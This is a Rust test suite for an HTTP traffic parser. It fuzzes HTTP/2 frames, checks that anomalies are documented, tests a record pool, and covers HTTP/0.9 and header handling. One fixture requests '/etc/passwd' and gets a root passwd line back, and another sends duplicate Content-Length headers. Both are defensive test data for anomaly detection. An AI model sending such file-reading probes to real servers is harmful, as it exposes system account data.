        Step::Gap(Dir::S2c, 100),
        s(b"garbage"),
    ]));
    assert_eq!(brief(&txs), vec![r#"0 GET /g -> - ["h2_gap"]"#]);
}

#[test]
fn http2_garbage_never_panics() {
    let mut seed = 0x2545f4914f6cdd1du64;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let mut enc = loona_hpack::Encoder::new();
    let block = hpack(
        &mut enc,
        &[(":method", "GET"), (":path", "/"), ("x-a", "b")],
    );
    for _ in 0..2000 {
        let mut dirs = [super::h2::PREFACE.to_vec(), Vec::new()];
        for _ in 0..(next() % 10) {
            let d = (next() % 2) as usize;
            let kind = (next() % 11) as u8;
            let flags = (next() % 64) as u8;
            let stream = (next() % 6) as u32;
            let payload: Vec<u8> = match next() % 3 {
                0 => block.clone(),
                1 => (0..next() % 40).map(|_| next() as u8).collect(),
                _ => b"\x02hello\x00\x00".to_vec(),
            };
            let mut f = frame(kind, flags, stream, &payload);
            if next() % 10 == 0 {
                f[0] = next() as u8;
            }
            dirs[d].extend(f);
        }
        let [c2s, s2c] = dirs;
        let scenario = sc(vec![Step::C(c2s), Step::S(s2c)]);
        let cut = (next() % 13) as usize + 1;
        let recs = records(&scenario, &|_, len| (1..len).step_by(cut).collect());
        let (txs, st) = parse_records(&HttpConfig::default(), &recs);
        assert_eq!(st.transactions, txs.len() as u64);
    }
}

#[test]
fn every_anomaly_raised_is_documented() {
    // Every quoted snake_case name handed to an anomaly sink in the sources
    // must be listed in ANOMALIES.
    let sources = [
        include_str!("flow.rs"),
        include_str!("h2.rs"),
        include_str!("body.rs"),
        include_str!("realip.rs"),
    ];
    let sinks = [
        "tx_anomaly(",
        "note(",
        "anomaly(",
        "Bad(",
        "fail(",
        "push(",
        "Some(",
        "Err(",
        "why: ",
    ];
    let listed: Vec<&str> = ANOMALIES.iter().map(|(n, _)| *n).collect();
    let mut seen = 0;
    for src in sources {
        for sink in sinks {
            for (i, _) in src.match_indices(sink) {
                let after = &src[i + sink.len()..];
                let after = after.trim_start_matches(|c: char| c != '"' && c != ')' && c != '\n');
                let Some(rest) = after.strip_prefix('"') else {
                    continue;
                };
                let Some(end) = rest.find('"') else { continue };
                let name = &rest[..end];
                if name.is_empty()
                    || !name
                        .bytes()
                        .all(|b| b.is_ascii_lowercase() || b == b'_' || b.is_ascii_digit())
                    || !name.contains('_')
                {
                    continue;
                }
                seen += 1;
                assert!(
                    listed.contains(&name),
                    "anomaly {name:?} is not in ANOMALIES"
                );
            }
        }
    }
    assert!(seen > 20, "{seen}");
}

/// Scenarios whose records differ in every part a refill touches: many
/// headers, non-UTF-8 values, bodies, trailers, anomalies, a PROXY header,
/// interim responses, a missing request or response, a lenient start line.
fn recycling_scenarios() -> Vec<Scenario> {
    let many: String = (0..40).map(|i| format!("X-H{i}: value {i}\r\n")).collect();
    let mut odd = b"GET /odd HTTP/1.1\r\nX-Bin: caf\xe9 \xff\r\n".to_vec();
    odd.extend_from_slice(b"Content-Length: 3\r\nContent-Length: 3\r\n\r\nabc");
    vec![
        sc(vec![
            c(format!(
                "PROXY TCP4 203.0.113.9 10.1.0.9 56324 80\r\nPOST /big HTTP/1.1\r\n{many}\
                 Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello"
            )),
            s(format!(
                "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n{many}\
                 Transfer-Encoding: chunked\r\n\r\n5\r\nworld\r\n0\r\nX-T: 1\r\n\r\n"
            )),
        ]),
        sc(vec![c(odd), s("HTTP/1.0 2XX Fine\r\n\r\n")]),
        sc(vec![c(get("/a")), s("HTTP/1.1 204 No Content\r\n\r\n")]),
        sc(vec![s(ok("lonely"))]),
        sc(vec![c("GET /x?a+ http://h/y HTTP/1.1\r\nHost: h\r\n\r\n")]),
        Scenario {
            client: "[2001:db8::7]:4000",
            ..sc(vec![c(get("/v6")), s(ok("six")), c(get("/v6b")), s(ok(""))])
        },
        sc(vec![
            c("GET /u HTTP/1.1\r\nX-U: caf\u{e9} \u{2603}\r\n\r\n"),
            s("HTTP/1.1 200 OK\r\nX-Fold: a\r\n b\r\nContent-Length: 0\r\n\r\n"),
        ]),
        sc(vec![c("GET / HTTP/1.1\r\n\r\n"), s(ok(""))]),
    ]
}

#[test]
fn recycled_records_equal_fresh_ones() {
    let cfg = HttpConfig::default();
    let scenarios = recycling_scenarios();
    let fresh: Vec<Vec<Http>> = scenarios
        .iter()
        .map(|s| parse_records(&cfg, &records(s, &|_, _| vec![])).0)
        .collect();
    assert!(fresh.iter().all(|t| !t.is_empty()));
    // One parser for all, every record handed back as soon as it is out:
    // big records first, then small ones, then big again (a refill must
    // drop what the previous life had more of, and grow back).
    let mut p = HttpParser::new(cfg.clone());
    let order: Vec<usize> = (0..scenarios.len())
        .chain((0..scenarios.len()).rev())
        .collect();
    let mut reused = 0;
    for &i in &order {
        let mut got = vec![];
        for r in records(&scenarios[i], &|_, _| vec![]) {
            let mut out = vec![];
            p.push(&r, &mut |h| out.push(h));
            for h in out {
                got.push(h.clone());
                reused += usize::from(p.pool.len() != (0, 0, 0));
                p.recycle(h);
            }
        }
        p.finish(&mut |h| got.push(h));
        assert_eq!(got, fresh[i], "scenario {i}");
    }
    assert!(reused > 0, "nothing was refilled");
}

#[test]
fn the_pool_is_bounded() {
    let cfg = HttpConfig::default();
    let txs = parse_records(&cfg, &records(&recycling_scenarios()[0], &|_, _| vec![])).0;
    let mut p = HttpParser::new(cfg.clone());
    for _ in 0..pool::POOL_CAP + 100 {
        p.recycle(txs[0].clone());
    }
    // Shells by count; messages by count and by the room their strings
    // have, which for ordinary ones is about a count's worth.
    let (shells, requests, responses) = p.pool.len();
    assert_eq!(shells, pool::POOL_CAP);
    assert!(requests <= pool::POOL_CAP && requests > pool::POOL_CAP / 2);
    assert!(responses <= pool::POOL_CAP && responses > pool::POOL_CAP / 2);
    assert!(p.pool.bytes() <= pool::POOL_BYTES);
    // Messages whose strings are big fill the byte budget first.
    let mut p = HttpParser::new(cfg.clone());
    let mut fat = txs[0].clone();
    for m in [
        fat.request.as_mut().map(|r| &mut r.headers),
        fat.response.as_mut().map(|r| &mut r.headers),
    ]
    .into_iter()
    .flatten()
    {
        m[0].1 = "v".repeat(pool::KEEP_BYTES / 2);
    }
    for _ in 0..pool::POOL_CAP {
        p.recycle(fat.clone());
    }
    let (shells, requests, responses) = p.pool.len();
    assert_eq!(shells, pool::POOL_CAP);
    assert!(
        requests + responses < pool::POOL_CAP,
        "{requests} {responses}"
    );
    assert!(requests > 0 && responses > 0);
    assert!(p.pool.bytes() <= pool::POOL_BYTES);
    assert!(p.pool.bytes() + pool::KEEP_BYTES > pool::POOL_BYTES);
    // Taking parts out gives their room back.
    for _ in 0..requests {
        p.pool.request("GET", "/", Some(1), &[], None);
    }
    for _ in 0..responses {
        p.pool.response(200, "OK", Some(1), &[], None);
    }
    assert_eq!(p.pool.bytes(), 0);
    // A request whose headers hold more than KEEP_BYTES is not kept.
    let mut p = HttpParser::new(cfg.clone());
    let mut big = txs[0].clone();
    if let Some(r) = &mut big.request {
        r.headers[0].1 = "v".repeat(pool::KEEP_BYTES + 1);
    }
    p.recycle(big);
    assert_eq!(p.pool.len(), (1, 0, 1));
    // Bodies never stay in the pool.
    let mut p = HttpParser::new(cfg);
    p.recycle(txs[0].clone());
    let r = p.pool.request("GET", "/", Some(1), &[], None);
    assert!(r.body.is_empty() && r.body.capacity() == 0);
}

#[test]
fn http09_simple_requests() {
    // The 0.9 answer: raw bytes, no status line, until the server closes.
    let (txs, st) = run_cfg(
        &HttpConfig::default(),
        &sc(vec![
            c("GET /etc/passwd\r\n"),
            s("root:x:0:0:root:/root:/bin/bash\n"),
            s("HTTP/1.1 200 is just text here\n"),
        ]),
    );
    assert_eq!(
        brief(&txs),
        vec!["0 GET /etc/passwd -> 0 root:x:0:0:root:/root:/bin/bash\nHTTP/1.1 200 is just text here\n [\"http09_request\"]"]
    );
    let (req, resp) = (
        txs[0].request.as_ref().unwrap(),
        txs[0].response.as_ref().unwrap(),
    );
    assert_eq!(
        (req.version.as_str(), resp.version.as_str()),
        ("HTTP/0.9", "HTTP/0.9")
    );
    assert!(req.headers.is_empty() && resp.headers.is_empty());
    assert_eq!(st.anomalies.get("http09_request"), Some(&1));
    assert_eq!(st.non_http, 0);

    // A server that refuses 0.9 answers with a real status line; a bare LF
    // ends the line too, and an absolute-form target counts.
    let refusal = "HTTP/1.1 400 Bad Request\r\nContent-Length: 3\r\n\r\nno\n";
    assert_eq!(
        brief(&run(&sc(vec![c("GET /index.html\n"), s(refusal)]))),
        vec!["0 GET /index.html -> 400 no\n [\"http09_request\"]"]
    );
    assert_eq!(
        brief(&run(&sc(vec![c("GET http://h.example/x\r\n"), s(refusal)]))),
        vec!["0 GET http://h.example/x -> 400 no\n [\"http09_request\"]"]
    );
    // A 0.9 answer that starts like a status line's first letters.
    assert_eq!(
        brief(&run(&sc(vec![c("GET /\r\n"), s("Hello\n")]))),
        vec!["0 GET / -> 0 Hello\n [\"http09_request\"]"]
    );

    // Not 0.9: another method, a target that is neither a path nor a URL,
    // a space inside the target. Nothing is made up from them.
    for line in ["POST /x\r\n", "GET x\r\n", "GET /a b\r\n", "GET \r\n"] {
        let (txs, st) = run_cfg(
            &HttpConfig::default(),
            &sc(vec![
                c(line),
                s("HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n"),
            ]),
        );
        assert!(
            txs.iter().all(|t| t.request.is_none()),
            "{line:?}: {:?}",
            brief(&txs)
        );
        assert_eq!(st.anomalies.get("http09_request"), None, "{line:?}");
    }
}

/// The header values a record carries are the same whether they are taken
/// from `header_text` (the header lines checked once) or checked one by one:
/// heads with non-UTF-8 bytes in the reason, a value, or none (httparse
/// refuses them in a request target).
#[test]
fn header_text_values_match_values_checked_alone() {
    let heads: [&[u8]; 7] = [
        b"GET /a HTTP/1.1\r\nHost: h\r\nX: caf\xc3\xa9\r\n\r\n",
        b"GET /%ff HTTP/1.1\r\nHost: h\xff\r\nX: v\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: h\r\nX: \xff\r\nY: ok\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
        b"HTTP/1.1 200 \xffK\r\nA: b\r\nC: d\xc3\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nA: b\r\n c\r\nE:\r\n\r\n",
        b"HTTP/1.1 204 No\r\n\r\n",
    ];
    for raw in heads {
        let mut slots = [httparse::EMPTY_HEADER; 8];
        let (n, headers) = if raw.starts_with(b"HTTP/") {
            let mut r = httparse::Response::new(&mut slots);
            let status = httparse::ParserConfig::default()
                .allow_obsolete_multiline_headers_in_responses(true)
                .parse_response(&mut r, raw);
            let Ok(httparse::Status::Complete(n)) = status else {
                panic!("{raw:?}: {status:?}")
            };
            (n, r.headers.to_vec())
        } else {
            let mut r = httparse::Request::new(&mut slots);
            let status = httparse::ParserConfig::default()
                .allow_multiple_spaces_in_request_line_delimiters(true)
                .parse_request(&mut r, raw);
            let Ok(httparse::Status::Complete(n)) = status else {
                panic!("{raw:?}: {status:?}")
            };
            (n, r.headers.to_vec())
        };
        let head = super::flow::header_text(raw, n, &headers);
        let (mut fast, mut slow) = (Vec::new(), Vec::new());
        super::pool::fill_headers(&mut fast, &headers, head);
        super::pool::fill_headers(&mut slow, &headers, None);
        assert_eq!(fast, slow, "{raw:?}");
        // Only the header lines are checked: a bad target or reason leaves
        // them usable.
        let lines_ok = headers.iter().all(|h| std::str::from_utf8(h.value).is_ok());
        assert_eq!(head.is_some(), lines_ok, "{raw:?}");
    }
}

/// `name_is` answers as `eq_ignore_ascii_case` does: every name it is
/// used for, in each spelling, against names of the same length that
/// differ in one byte (case, a look-alike, a byte past ASCII) and random
/// ones.
#[test]
fn name_is_eq_ignore_ascii_case() {
    fn check<const N: usize>(want: super::Name<N>) {
        assert!(want.0.eq_ignore_ascii_case(want.1));
        assert!(want.1.iter().all(|b| !b.is_ascii_uppercase()));
        let lower = std::str::from_utf8(want.1).unwrap();
        let mut names: Vec<Vec<u8>> = vec![
            want.0.to_vec(),
            want.1.to_vec(),
            lower.to_ascii_uppercase().into_bytes(),
        ];
        for i in 0..N {
            for b in [
                0u8,
                b'\r',
                b'-',
                b'_',
                0x7f,
                0x80,
                0xc3,
                b'a',
                b'Z',
                want.1[i] ^ 0x20,
                want.1[i] ^ 0x01,
            ] {
                let mut n = want.1.to_vec();
                n[i] = b;
                names.push(n);
                let mut n = want.0.to_vec();
                n[i] = b;
                names.push(n);
            }
        }
        let mut x = 0x9e37_79b9_7f4a_7c15u64;
        for _ in 0..2000 {
            let n: Vec<u8> = want
                .1
                .iter()
                .map(|&c| {
                    x ^= x << 13;
                    x ^= x >> 7;
                    x ^= x << 17;
                    if x.is_multiple_of(3) {
                        c.to_ascii_uppercase()
                    } else if x.is_multiple_of(11) {
                        (x >> 8) as u8
                    } else {
                        c
                    }
                })
                .collect();
            names.push(n);
        }
        names.push(b"".to_vec());
        names.push([want.1.as_slice(), b"x"].concat());
        names.push(want.1[..N - 1].to_vec());
        for n in names {
            let n = String::from_utf8_lossy(&n);
            assert_eq!(
                super::name_is(&n, want),
                n.eq_ignore_ascii_case(lower),
                "{n:?}"
            );
        }
    }
    check(super::CONTENT_TYPE);
    check(super::CONTENT_LENGTH);
    check(super::TRANSFER_ENCODING);
    check(super::CONTENT_ENCODING);
}
